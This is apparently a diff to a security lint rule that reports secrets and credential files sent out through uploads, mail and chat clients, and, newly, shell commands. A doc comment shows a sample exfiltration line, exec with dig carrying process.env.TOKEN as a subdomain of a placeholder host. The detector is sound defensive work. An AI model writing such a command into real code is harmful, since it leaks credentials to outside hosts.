@@ -5,6 +5,7 @@ import type { JavaScriptFacts } from '../core/define-rule.ts';
 import { hostList } from '../core/option-lists.ts';
 import { judgeFlow, sentSecrets } from '../core/sent-data.ts';
 import type { Sent } from '../core/sent-data.ts';
+import { judgeSentWord, sentByCommands } from '../core/sent-commands.ts';
 import { shellFindings } from '../core/shell-findings.ts';
 import { sinkPlace } from '../core/sink-place.ts';
 import { findSentSecrets } from '../core/workflow-leaks.ts';
@@ -51,6 +52,7 @@ export default defineRule<keyof typeof messages, Options>({
     // A mail, a bucket or an issue may well hold a single value, but not a credential file.
     for (const { source, sink } of facts.model.flows({ from: ['file', 'command'], to: ['upload'] })) facts.report({ at: sinkPlace(sink), message: 'sent', data: { name: source.name, sink: sink.label } });
     checkAttachments(facts);
+    checkCommands(facts);
     const sent = sentSecrets(flows);
     for (const flow of flows) {
       const message = isInside(flow, facts) || isAddressing(flow) || isOwnAddress(flow) ? null : judgeFlow(flow, sent, facts);
@@ -74,6 +76,16 @@ export default defineRule<keyof typeof messages, Options>({
     }
   },
 });
+
+/** `exec(`dig ${process.env.TOKEN}.host.example`)`. */
+function checkCommands({ model, file, strict, options, policy, report }: Facts): void {
+  const allowed = [...policy.allowedHosts, ...options.allowedHosts];
+  for (const found of sentByCommands(model, () => file.notableCommands())) {
+    const { flow, sent, at } = found;
+    const message = matchesHost(sent.host, allowed) || isNoSecret(flow.source, { policy }) ? null : judgeSentWord(found, strict);
+    if (message !== null) report({ at, message, data: { name: flow.source.name.replace(/^the /, 'The '), sink: sent.request.name, host: sent.host === '' ? 'another host' : sent.host, position: 'text' } });
+  }
+}
 
 /** Clients of mail and chat that read the files which they are given the paths of. Sources: Nodemailer, Resend, SendGrid, Discord. */
 const MAILS = originSet({ 'nodemailer.createTransport().sendMail': true, 'resend.Resend().emails.send': true, 'discord.js.WebhookClient().send': true, 'discord.js:WebhookClient().send': true, '@slack/web-api.WebClient().files.uploadV2': true });
@@ -101,7 +113,7 @@ function sentTogether({ sink }: Flow, { bodies, headers }: Sent): string {
 }
 
 /** True for what the policy says is no secret although it is named like one. */
-function isNoSecret({ kind, name }: Flow['source'], { policy }: Facts): boolean {
+function isNoSecret({ kind, name }: Flow['source'], { policy }: Pick<Facts, 'policy'>): boolean {
   return policy.allowedNames.length > 0 && (kind === 'secret' || kind === 'credential') && name.split(', ').every((part) => matchesAllowList(part, policy.allowedNames));
 }
 
